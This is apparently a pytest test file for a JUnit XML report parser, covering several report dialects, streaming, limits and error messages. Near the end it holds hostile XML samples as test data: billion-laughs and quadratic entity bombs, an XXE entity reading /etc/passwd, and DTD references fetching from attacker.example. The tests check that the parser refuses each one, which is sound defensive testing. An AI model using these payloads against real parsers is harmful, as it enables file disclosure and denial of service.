"""JUnit reports: the four dialects, streaming, hostile XML and limits."""

from __future__ import annotations

from collections.abc import AsyncIterator, Iterator
from pathlib import Path

import pytest

from plumbline.common.errors import InvalidArgument
from plumbline.services.testmgmt import junit
from plumbline.services.testmgmt.junit import Case, JUnitParser, parse, parse_async, references

FIXTURES = Path(__file__).parent / "fixtures"
DIALECTS = ["surefire.xml", "pytest.xml", "pytest_legacy.xml", "jest.xml", "go.xml"]
NO_DTD = "JUnit report: DTDs and entity declarations are not allowed."


def fixture(name: str) -> bytes:
    return (FIXTURES / name).read_bytes()


def chunks(data: bytes, size: int) -> Iterator[bytes]:
    for start in range(0, len(data), size):
        yield data[start : start + size]


def by_name(cases: list[Case]) -> dict[str, Case]:
    return {case.name: case for case in cases}


def statuses(cases: list[Case]) -> list[tuple[str, str]]:
    return [(case.name, case.status) for case in cases]


def case_xml(body: str, attrs: str = 'name="t"') -> bytes:
    return f'<testsuite name="s"><testcase {attrs}>{body}</testcase></testsuite>'.encode()


def one(data: bytes) -> Case:
    [case] = parse(data)
    return case


def test_surefire() -> None:
    cases = parse(fixture("surefire.xml"))
    assert statuses(cases) == [
        ("addsItemToEmptyCart", "PASSED"),
        ("totalIncludesTax", "FAILED"),
        ("checkoutWithoutPayment", "FAILED"),
        ("appliesCoupon", "NOT_RUN"),
        ("removesItem", "PASSED"),
        ("emptiesCart", "FAILED"),
    ]
    assert {case.suite for case in cases} == {"com.acme.shop.CartServiceTest"}
    assert {case.classname for case in cases} == {"com.acme.shop.CartServiceTest"}
    named = by_name(cases)
    passed = named["addsItemToEmptyCart"]
    assert passed.properties == {"testcase": "SHOP-TC-12", "requirement": "SHOP-REQ-3"}
    assert passed.message == ""
    assert passed.time == 0.012
    assert named["totalIncludesTax"].message == (
        "expected: <10.80> but was: <10.00>\n\n"
        "org.opentest4j.AssertionFailedError: expected: <10.80> but was: <10.00>\n"
        "\tat org.junit.jupiter.api.AssertionFailureBuilder.build(AssertionFailureBuilder.java:151)\n"
        "\tat com.acme.shop.CartServiceTest.totalIncludesTax(CartServiceTest.java:48)\n\n"
        "cart total computed without region"
    )
    error = named["checkoutWithoutPayment"].message
    assert error.startswith('Cannot invoke "Payment.amount()" because "payment" is null\n\n')
    assert error.endswith("\n\nWARN  CartService - no payment method on cart 42")
    assert named["appliesCoupon"].message == "coupons are not implemented yet"
    assert named["appliesCoupon"].time == 0.0
    # A flaky failure passed on its rerun: neither its status nor its output count.
    assert named["removesItem"].message == ""
    # An error with neither message nor text is still explained by its type.
    assert named["emptiesCart"].message == "java.lang.IllegalStateException"


def test_suite_properties_are_not_case_properties() -> None:
    cases = parse(fixture("surefire.xml"))
    assert all("java.version" not in case.properties for case in cases)
    assert [references(case) for case in cases][2:] == [[], [], [], []]


def test_pytest_with_testsuites_root() -> None:
    cases = parse(fixture("pytest.xml"))
    assert statuses(cases) == [
        ("test_valid_password", "PASSED"),
        ("test_locked_account", "FAILED"),
        ("test_reset_email", "FAILED"),
        ("test_logout[chrome]", "NOT_RUN"),
        ("test_sso", "NOT_RUN"),
        ("test_expiry", "FAILED"),
        ("test_renew", "PASSED"),
    ]
    assert {case.suite for case in cases} == {"pytest"}
    named = by_name(cases)
    assert named["test_valid_password"].properties == {"testcase": "AUTH-TC-1", "jama": "GID-TC-77"}
    assert named["test_valid_password"].time == 0.004
    locked = named["test_locked_account"].message
    assert locked.startswith(
        "AssertionError: assert 200 == 423\n +  where 200 = <Response [200]>.status_code\n\n"
        "client = <FlaskClient <Flask 'auth'>>\n"
    )
    assert locked.endswith(
        "tests/test_login.py:21: AssertionError\n\n"
        "--------------------------------- Captured Out ---------------------------------\n"
        "login attempt for locked\n\n"
        "--------------------------------- Captured Err ---------------------------------\n"
        "DeprecationWarning: flask.json"
    )
    assert named["test_reset_email"].message.startswith(
        "failed on setup with \"fixture 'smtp' not found\"\n\nfile /ci/tests/test_login.py"
    )
    assert named["test_logout[chrome]"].message == (
        "needs a browser\n\n/ci/tests/test_login.py:41: needs a browser"
    )
    assert named["test_sso"].message == "SSO is not wired up"


def test_pytest_failure_and_teardown_error_both_reach_the_message() -> None:
    expiry = by_name(parse(fixture("pytest.xml")))["test_expiry"]
    assert expiry.status == "FAILED"
    failure, error = expiry.message.split("\n\nfailed on teardown with ")
    assert failure.startswith("assert False\n\ndef test_expiry():")
    assert error.startswith('"RuntimeError: db still open"')


def test_pytest_with_testsuite_root() -> None:
    cases = parse(fixture("pytest_legacy.xml"))
    assert statuses(cases) == [
        ("test_add", "PASSED"),
        ("test_div", "FAILED"),
        ("test_pow", "NOT_RUN"),
    ]
    assert cases[0].properties == {"testcaseid": "1042"}
    assert cases[0].classname == "tests.test_math"
    assert cases[0].suite == "pytest"
    assert cases[1].message.startswith("ZeroDivisionError: division by zero\n\ndef test_div():")


def test_jest() -> None:
    cases = parse(fixture("jest.xml"))
    assert statuses(cases) == [
        ("Cart adds an item", "PASSED"),
        ("Cart computes the total", "FAILED"),
        ("Cart applies a coupon", "NOT_RUN"),
        ("Cart empties itself", "PASSED"),
        ("src/checkout.test.js", "FAILED"),
    ]
    assert [case.suite for case in cases] == ["Cart"] * 4 + ["src/checkout.test.js"]
    named = by_name(cases)
    assert named["Cart adds an item"].properties == {"documentkey": "WEB-TC-5"}
    assert named["Cart computes the total"].message.startswith(
        "Error: expect(received).toBe(expected) // Object.is equality\n\nExpected: 3\nReceived: 2\n"
    )
    assert named["Cart applies a coupon"].message == ""
    assert named["Cart empties itself"].message == (
        "console.log\n    emptying cart 42\n\n      at Object.log (src/cart.js:31:13)"
    )
    broken = named["src/checkout.test.js"]
    assert broken.classname == "Test suite failed to run"
    assert broken.message.startswith("● Test suite failed to run\n\n")
    assert broken.message.endswith("\n\njest-haste-map: duplicate manual mock found: payment")


def test_go() -> None:
    cases = parse(fixture("go.xml"))
    assert statuses(cases) == [
        ("TestAdd", "PASSED"),
        ("TestAdd/empty_cart", "PASSED"),
        ("TestRemove", "FAILED"),
        ("TestSync", "NOT_RUN"),
        ("TestTotal", "FAILED"),
        ("TestClear", "PASSED"),
    ]
    assert {case.suite for case in cases} == {"github.com/acme/shop/cart"}
    named = by_name(cases)
    assert named["TestAdd"].properties == {"testcase": "GO-TC-1"}
    # A property may carry its value as text instead of a value attribute.
    assert named["TestRemove"].properties == {"requirement": "GO-REQ-4"}
    assert named["TestRemove"].message == (
        "Failed\n\ncart_test.go:42: expected 2 items, got 3\n\n"
        "=== RUN   TestRemove\n    cart_test.go:40: removing sku-7"
    )
    assert named["TestSync"].message == "Skipped\n\ncart_test.go:50: needs network"
    assert named["TestTotal"].message.endswith("+0x1d\n\nexit status 2")
    assert named["TestTotal"].time == 0.2
    # Suite-level output belongs to no case.
    assert all("goarch" not in case.message for case in cases)


@pytest.mark.parametrize("name", DIALECTS)
@pytest.mark.parametrize("size", [1, 7, 4096])
def test_chunked_feeding_reads_the_same_cases(name: str, size: int) -> None:
    data = fixture(name)
    assert parse(chunks(data, size)) == parse(data)


async def test_async_chunks() -> None:
    data = fixture("pytest.xml")

    async def stream() -> AsyncIterator[bytes]:
        for chunk in chunks(data, 7):
            yield chunk

    assert await parse_async(stream()) == parse(data)


def test_the_incremental_parser() -> None:
    parser = JUnitParser()
    data = fixture("go.xml")
    for chunk in chunks(data, 100):
        parser.feed(chunk)
    assert [case.name for case in parser.close()][:2] == ["TestAdd", "TestAdd/empty_cart"]
    with pytest.raises(RuntimeError):
        parser.feed(b"<testsuite/>")


def test_nested_suites_name_the_innermost() -> None:
    cases = parse(
        b'<testsuites><testsuite name="outer"><testcase name="a"/>'
        b'<testsuite name="inner"><testcase name="b"/></testsuite>'
        b'<testcase name="c"/></testsuite><testcase name="d"/></testsuites>'
    )
    assert [(case.name, case.suite) for case in cases] == [
        ("a", "outer"),
        ("b", "inner"),
        ("c", "outer"),
        ("d", ""),
    ]


def test_an_empty_suite_has_no_cases() -> None:
    assert parse(b'<?xml version="1.0"?>\n<testsuites/>') == []


def test_failure_beats_skipped() -> None:
    case = one(case_xml('<skipped message="later"/><failure message="boom"/>'))
    assert (case.status, case.message) == ("FAILED", "later\n\nboom")


def test_missing_attributes() -> None:
    case = one(b"<testsuite><testcase/></testsuite>")
    assert (case.name, case.classname, case.suite, case.time) == ("", "", "", None)


@pytest.mark.parametrize(
    ("time", "seconds"),
    [
        ('time="1.5"', 1.5),
        ('time="abc"', None),
        ('time="-1"', None),
        ('time="nan"', None),
        ("", None),
    ],
)
def test_time(time: str, seconds: float | None) -> None:
    assert one(case_xml("", f'name="t" {time}')).time == seconds


def test_property_names_are_lower_cased_and_repeats_keep_every_value() -> None:
    case = one(
        case_xml(
            '<properties><property name="Requirement" value="R-1"/>'
            '<property name="REQUIREMENT" value="R-2"/><property name="Owner" value="Ann"/>'
            "</properties>"
        )
    )
    assert case.properties == {"requirement": "R-1, R-2", "owner": "Ann"}
    assert references(case) == ["R-1", "R-2"]


def test_references_follow_the_priority_order_without_repeats() -> None:
    case = one(
        case_xml(
            "<properties>"
            '<property name="documentKey" value="PRJ-TC-9"/>'
            '<property name="jama" value="GID-TC-123"/>'
            '<property name="requirement" value="PRJ-REQ-4"/>'
            '<property name="testcaseid" value="77"/>'
            '<property name="test_case" value="PRJ-TC-12"/>'
            '<property name="testcase" value=" PRJ-TC-12 ,PRJ-TC-13  PRJ-TC-14"/>'
            '<property name="owner" value="PRJ-TC-99"/>'
            "</properties>"
        )
    )
    assert references(case) == [
        "PRJ-TC-12",
        "PRJ-TC-13",
        "PRJ-TC-14",
        "77",
        "PRJ-REQ-4",
        "GID-TC-123",
        "PRJ-TC-9",
    ]


def test_message_is_capped() -> None:
    huge = "x" * (junit.MAX_MESSAGE + 10)
    case = one(case_xml(f'<failure message="boom">{huge}</failure><system-out>{huge}</system-out>'))
    assert len(case.message) == junit.MAX_MESSAGE
    assert case.message.startswith("boom\n\nxxx")
    assert case.message.endswith("x…")


def test_ten_thousand_cases() -> None:
    outcomes = ["", '<failure message="m">t</failure>', "<error/>", "<skipped/>"]
    body = "".join(
        f'<testcase classname="c" name="t{i}" time="0.001">{outcomes[i % 4]}'
        f'<properties><property name="testcase" value="PRJ-TC-{i}"/></properties></testcase>'
        for i in range(10_000)
    )
    data = f'<testsuites><testsuite name="big">{body}</testsuite></testsuites>'.encode()
    cases = parse(chunks(data, 65_536))
    assert len(cases) == 10_000
    assert [case.status for case in cases[:4]] == ["PASSED", "FAILED", "FAILED", "NOT_RUN"]
    assert cases[9_999].name == "t9999"
    assert cases[9_999].status == "NOT_RUN"
    assert cases[5_001].message == "m\n\nt"
    assert references(cases[1234]) == ["PRJ-TC-1234"]


def test_too_many_cases(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(junit, "MAX_CASES", 3)
    assert len(parse(b"<testsuite>" + b"<testcase/>" * 3 + b"</testsuite>")) == 3
    with pytest.raises(InvalidArgument, match="more than 3 test cases; at most 3 are allowed"):
        parse(b"<testsuite>" + b"<testcase/>" * 4 + b"</testsuite>")


def test_the_case_limit_is_a_hundred_thousand() -> None:
    assert junit.MAX_CASES == 100_000


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<testsuite name="&lol3;"><testcase name="&lol3;"/></testsuite>"""

QUADRATIC = (
    b'<!DOCTYPE t [<!ENTITY a "' + b"A" * 50_000 + b'">]>'
    b'<testsuite><testcase name="' + b"&a;" * 1000 + b'"/></testsuite>'
)

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE testsuite [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<testsuite name="s"><testcase name="t"><failure>&xxe;</failure></testcase></testsuite>"""

PARAMETER_ENTITY = b"""<!DOCTYPE testsuite [
<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<testsuite/>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE testsuite SYSTEM "http://attacker.example/junit.dtd">
<testsuite name="s"/>"""


@pytest.mark.parametrize(
    "data",
    [
        BILLION_LAUGHS,
        QUADRATIC,
        XXE,
        PARAMETER_ENTITY,
        EXTERNAL_DTD,
        b"<!DOCTYPE testsuite><testsuite/>",
    ],
    ids=["billion-laughs", "quadratic", "xxe", "parameter-entity", "external-dtd", "bare-doctype"],
)
@pytest.mark.parametrize("size", [7, 1 << 20])
def test_dtds_are_refused(data: bytes, size: int) -> None:
    with pytest.raises(InvalidArgument) as raised:
        parse(chunks(data, size))
    assert raised.value.message == NO_DTD


def test_an_undeclared_entity_is_malformed() -> None:
    with pytest.raises(InvalidArgument, match="undefined entity at line 1, column 40"):
        parse(b'<testsuite><testcase name="t"><failure>&xxe;</failure></testcase></testsuite>')


@pytest.mark.parametrize(
    ("data", "where"),
    [
        (b"<testsuite>\n  <testcase name='a'>\n</testsuite>", "mismatched tag at line 3, column 3"),
        (b"<testsuite><testcase name='a'/>", "no element found at line 1, column 32"),
        (b"<testsuite/>\n<testsuite/>", "junk after document element at line 2, column 1"),
        (b"not xml at all", "syntax error at line 1, column 1"),
    ],
)
def test_malformed_xml_names_the_line_and_column(data: bytes, where: str) -> None:
    with pytest.raises(InvalidArgument) as raised:
        parse(chunks(data, 7))
    assert raised.value.message == f"JUnit report is not well-formed XML: {where}."


@pytest.mark.parametrize(
    "root", [b"<html><body/></html>", b"<testcase name='t'/>", b"<TestSuites/>"]
)
def test_other_roots_are_refused(root: bytes) -> None:
    with pytest.raises(InvalidArgument) as raised:
        parse(root)
    name = root.split(b" ")[0].split(b"/")[0].split(b">")[0][1:].decode()
    assert raised.value.message == (
        f"JUnit report: the root element must be <testsuites> or <testsuite>, not <{name}>."
    )


@pytest.mark.parametrize("source", [b"", [], [b"", b""], b"  \n\t ", [b"\n", b"  "]])
def test_an_empty_body_is_refused(source: bytes | list[bytes]) -> None:
    with pytest.raises(InvalidArgument) as raised:
        parse(source)
    assert raised.value.message == (
        "JUnit report is empty: expected a <testsuites> or <testsuite> document."
    )


def test_a_latin_1_report() -> None:
    data = '<?xml version="1.0" encoding="ISO-8859-1"?><testsuite name="é"><testcase name="ü"/></testsuite>'
    case = one(data.encode("latin-1"))
    assert (case.suite, case.name) == ("é", "ü")
